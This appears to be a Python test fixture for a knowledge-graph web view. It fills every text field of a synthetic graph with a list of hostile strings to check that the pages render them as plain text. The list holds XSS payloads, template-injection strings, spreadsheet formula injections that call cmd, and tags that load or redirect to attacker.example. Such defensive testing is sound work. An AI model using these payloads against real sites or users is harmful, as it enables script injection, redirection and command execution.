"""Texts that would run, load or break something if a page treated them as anything but text."""

from __future__ import annotations

import re
from dataclasses import fields, replace
from typing import Any, Final, TypeVar

from pyoxigraph import NamedNode

from kg.namespaces import DIP
from kg.network.model import Edge, Fact, Literal, Node, Projection, Term
from kg.record.model import Claim, Note, Passage, When
from kg.sources import Check, Verification
from tests.browser.synthetic import BASE, document

PAYLOADS: Final = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x>",
    "<iframe src=javascript:window.parent.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<body onload=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<a href='javascript:window.pwned=1'>click</a>",
    "<math><mi xlink:href='data:x,<script>window.pwned=1</script>'>",
    "<style>@import 'https://attacker.example/x.css';</style>",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<base href=https://attacker.example/>",
    "<object data=https://attacker.example/x></object>",
    "<!--<script>",
    "--><script>window.pwned=1</script>",
    "]]><script>window.pwned=1</script>",
    "'-window.pwned=1-'",
    '"-window.pwned=1-"',
    '" onmouseover="window.pwned=1" x="',
    "' onmouseover='window.pwned=1' x='",
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "https://attacker.example/?<script>window.pwned=1</script>",
    "${window.pwned=1}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "`${window.pwned=1}`",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=window.pwned=1\\x3e",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "\u2028window.pwned=1\u2029",
    "\u202ethgir ot tfel\u202c",
    "a\u0000b\ud800c",
    '=HYPERLINK("https://attacker.example/","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "__proto__",
    "constructor",
    "toString",
    "{{title}}",
    "{{blocks}}",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "*" * 5_000,
)

T = TypeVar("T")


def poisoned(thing: T, payload: str, keep: frozenset[str]) -> T:
    """A value of the network with each of its texts replaced by the payload, except for fields that refer to other values."""
    changes: dict[str, Any] = {}
    for field in fields(thing):  # type: ignore[arg-type]
        value = getattr(thing, field.name)
        if field.name in keep:
            continue
        if isinstance(value, str):
            changes[field.name] = payload
        elif isinstance(value, tuple) and all(isinstance(each, str) for each in value) and field.name in ("aliases", "links"):
            changes[field.name] = (payload, payload + "2")
    return replace(thing, **changes)  # type: ignore[type-var]


def legal(text: str) -> NamedNode:
    """An IRI that ends in those characters of a text that an IRI can contain."""
    return NamedNode(re.sub(r"""[\x00-\x20"#<>\[\]\\^`{|}\ud800-\udfff]|%(?![0-9A-Fa-f]{2})""", "", text))


def hostile(payload: str, number: int) -> Projection:
    """A small graph in which every text of a workspace is the payload, and IRIs end in it.

    Args:
        payload: the text.
        number: a number that makes the IRIs of this graph unique, so that several graphs can be joined.
    """
    at = f"{BASE}id/{number}-{payload}"
    agent, other, act, said = (f"{at}-{name}" for name in ("agent", "other", "act", "said"))
    speech, passage, source, stated, heard, note = (
        legal(f"{at}-{name}") for name in ("saying", "passage", "document", "claim", "heard", "note")
    )
    saying, claim = speech.value, stated.value
    classes = {"person": f"urn:{number}:Person{payload}", "act": f"urn:{number}:Act{payload}", "role": f"urn:{number}:role{payload}"}
    kind, basis = f"Kind{number}", f"Basis{number}"
    ties = frozenset(("iri", "group", "kinds", "subject", "predicate", "object", "claims", "origin"))
    nodes = [
        Node(agent, "", "person", (classes["person"],)),
        Node(other, "", "state", (classes["person"],)),
        Node(act, "", "act", (classes["act"],)),
        Node(saying, "", "act", (classes["act"],)),
        Node(said, "", "matter", (classes["act"],)),
    ]
    projection = Projection(BASE)
    projection.nodes = {each.iri: poisoned(each, payload, ties) for each in nodes}
    projection.terms = {iri: Term(iri, payload, (), payload) for iri in (*classes.values(), DIP + kind, DIP + basis)}
    projection.claims = {
        claim: Claim(stated, "Stated", True, passages=(passage,), wording=payload, gist=payload),
        heard.value: Claim(
            heard,
            payload or "Rumoured",
            False,
            content_of=(speech,),
            passages=(passage,),
            wording=payload,
            gist=payload,
            differs_from=(stated,),
        ),
    }
    projection.passages = {passage.value: Passage(passage, source, 1, payload, payload, first_words=payload, last_words=payload)}
    projection.documents = {
        source.value: document(source.value, payload, payload)._replace(
            source=payload, publisher=payload, license=payload, language=payload
        )
    }
    projection.notes = {note.value: Note(note, kind, payload, (speech, stated))}
    dated = When(None, payload, "1990-01-01", "1990-12-31", payload, payload, basis=basis, words=payload)
    projection.whens = {act: (dated, dated._replace(graph=stated))}
    role = classes["role"]
    projection.facts = [
        Fact(act, role, agent, (claim,)),
        Fact(act, role, other, (claim,)),
        Fact(act, role, Literal(payload, payload, payload), (claim,)),
        Fact(act, role, payload or "urn:x", (claim,)),
        Fact(saying, role, agent, (claim,)),
        Fact(said, role, other, (heard.value,)),
        Fact(agent, role, Literal(payload, payload), (claim,)),
    ]
    projection.edges = [Edge(agent, role, other, False, (), (claim,))]
    return projection


def hostile_copies(projection: Projection) -> Verification:
    """Copies of the texts of a hostile graph, in which each passage is a payload; every second document has none."""
    documents = list(projection.documents.values())
    files = {document: None if number % 2 else document.label for number, document in enumerate(documents)}
    text = {document.node: document.label for document, path in files.items() if path is not None}
    checks = (
        Check(each, "ok" if each.document in text else "no text", text.get(each.document, ""), 0) for each in projection.passages.values()
    )
    return Verification("copies", files, frozenset(), tuple(checks))


def everything_hostile() -> Projection:
    """All payloads in one graph."""
    whole = Projection(BASE)
    for number, payload in enumerate(PAYLOADS):
        part = hostile(payload, number)
        whole.nodes |= part.nodes
        whole.terms |= part.terms
        whole.claims |= part.claims
        whole.passages |= part.passages
        whole.documents |= part.documents
        whole.notes |= part.notes
        whole.whens |= part.whens
        whole.facts += part.facts
        whole.edges += part.edges
        whole.rules[payload] = payload
    return whole
